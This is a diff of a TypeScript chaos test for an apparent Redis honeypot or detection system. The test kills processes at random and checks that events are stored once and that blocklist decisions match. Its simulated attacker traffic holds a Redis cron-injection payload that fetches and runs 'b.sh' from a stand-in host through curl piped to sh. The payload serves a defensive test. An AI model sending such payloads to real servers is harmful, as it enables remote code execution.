@@ -65,71 +65,75 @@ const drained = (system: Program) =>
     .poll(() => system.ask<Status>('status')[0]?.lake.waiting, { timeout: 20_000, interval: 500 })
     .toBe(0);
 
-test(`after ${kills} kills at random, no acknowledged event is lost, none is stored twice, and nothing is decided twice`, async () => {
-  const random = seeded(Number(process.env.CALTROP_SEED ?? 7));
-  const system = await started();
-  const answered: { key: string; at: number }[] = [];
-  const killedAt: number[] = [];
-  let going = true;
-  let number = 0;
-  const traffic = (async () => {
-    while (going) {
-      const key = `k${number++}`;
-      if (await system.redis(`127.20.0.${(number % 50) + 1}`, `GET ${key}`))
-        answered.push({ key, at: Date.now() });
-      const attacker = number / 25;
-      if (Number.isInteger(attacker)) {
-        await system.redis(
-          `127.21.${attacker >> 8}.${attacker & 255}`,
-          'SET x "\\n* * * * * root curl -fsSL http://192.0.2.66/b.sh | sh\\n"',
-        );
+test(
+  `after ${kills} kills at random, no acknowledged event is lost, none is stored twice, and nothing is decided twice`,
+  async () => {
+    const random = seeded(Number(process.env.CALTROP_SEED ?? 7));
+    const system = await started();
+    const answered: { key: string; at: number }[] = [];
+    const killedAt: number[] = [];
+    let going = true;
+    let number = 0;
+    const traffic = (async () => {
+      while (going) {
+        const key = `k${number++}`;
+        if (await system.redis(`127.20.0.${(number % 50) + 1}`, `GET ${key}`))
+          answered.push({ key, at: Date.now() });
+        const attacker = number / 25;
+        if (Number.isInteger(attacker)) {
+          await system.redis(
+            `127.21.${attacker >> 8}.${attacker & 255}`,
+            'SET x "\\n* * * * * root curl -fsSL http://192.0.2.66/b.sh | sh\\n"',
+          );
+        }
+        await sleep(4);
       }
-      await sleep(4);
+    })();
+    for (let i = 0; i < kills; i++) {
+      await sleep(700 + random() * 900);
+      const targets = Object.entries(system.processes());
+      // Each kind in turn first, then at random.
+      const kind = ['lake', 'sensor', 'main'][i] ?? targets[Math.floor(random() * targets.length)]![0];
+      const pid = Object.fromEntries(targets)[kind];
+      if (!pid) continue;
+      killedAt.push(Date.now());
+      process.kill(pid, 'SIGKILL');
+      if (kind === 'main') {
+        await system.ended();
+        await system.start();
+      }
     }
-  })();
-  for (let i = 0; i < kills; i++) {
-    await sleep(700 + random() * 900);
-    const targets = Object.entries(system.processes());
-    // Each kind in turn first, then at random.
-    const kind = ['lake', 'sensor', 'main'][i] ?? targets[Math.floor(random() * targets.length)]![0];
-    const pid = Object.fromEntries(targets)[kind];
-    if (!pid) continue;
-    killedAt.push(Date.now());
-    process.kill(pid, 'SIGKILL');
-    if (kind === 'main') {
-      await system.ended();
-      await system.start();
-    }
-  }
-  await sleep(1_500);
-  going = false;
-  await traffic;
-  await drained(system);
-  await sleep(1_000);
+    await sleep(1_500);
+    going = false;
+    await traffic;
+    await drained(system);
+    await sleep(1_000);
 
-  const standing = system.ask<Listed>('decisions', '--standing', '--limit', '10000');
-  const blocked = readFileSync(join(system.data, 'blocklist', 'all.txt'), 'utf8')
-    .split('\n')
-    .filter((line) => line !== '' && !line.startsWith('#'));
-  expect(blocked.sort()).toEqual(standing.map(({ decision }) => decision.scope.source).sort());
-  const all = system
-    .ask<Listed>('decisions', '--limit', '10000')
-    .map(({ decision }) => decision.scope.source);
-  expect(all.length).toBeGreaterThan(5);
-  expect(all.filter((source, i) => all.indexOf(source) !== i)).toEqual([]);
+    const standing = system.ask<Listed>('decisions', '--standing', '--limit', '10000');
+    const blocked = readFileSync(join(system.data, 'blocklist', 'all.txt'), 'utf8')
+      .split('\n')
+      .filter((line) => line !== '' && !line.startsWith('#'));
+    expect(blocked.sort()).toEqual(standing.map(({ decision }) => decision.scope.source).sort());
+    const all = system
+      .ask<Listed>('decisions', '--limit', '10000')
+      .map(({ decision }) => decision.scope.source);
+    expect(all.length).toBeGreaterThan(5);
+    expect(all.filter((source, i) => all.indexOf(source) !== i)).toEqual([]);
 
-  await system.stop();
-  // An answer may have gone out a moment before a killed sensor could write the event down: that one was not acknowledged.
-  const certain = answered
-    .filter(({ at }) => !killedAt.some((kill) => at <= kill + 50 && at > kill - 150))
-    .map(({ key }) => key);
-  expect(certain.length).toBeGreaterThan(200);
-  const rows = await stored(system);
-  const inputs = new Set(rows.map(({ input }) => input));
-  expect(certain.filter((key) => !inputs.has(`GET ${key}`))).toEqual([]);
-  expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
-  expect(inputs.size).toBe(rows.length);
-}, 180_000);
+    await system.stop();
+    // An answer may have gone out a moment before a killed sensor could write the event down: that one was not acknowledged.
+    const certain = answered
+      .filter(({ at }) => !killedAt.some((kill) => at <= kill + 50 && at > kill - 150))
+      .map(({ key }) => key);
+    expect(certain.length).toBeGreaterThan(200);
+    const rows = await stored(system);
+    const inputs = new Set(rows.map(({ input }) => input));
+    expect(certain.filter((key) => !inputs.has(`GET ${key}`))).toEqual([]);
+    expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
+    expect(inputs.size).toBe(rows.length);
+  },
+  Math.max(180_000, kills * 15_000),
+);
 
 function canMount(): boolean {
   try {
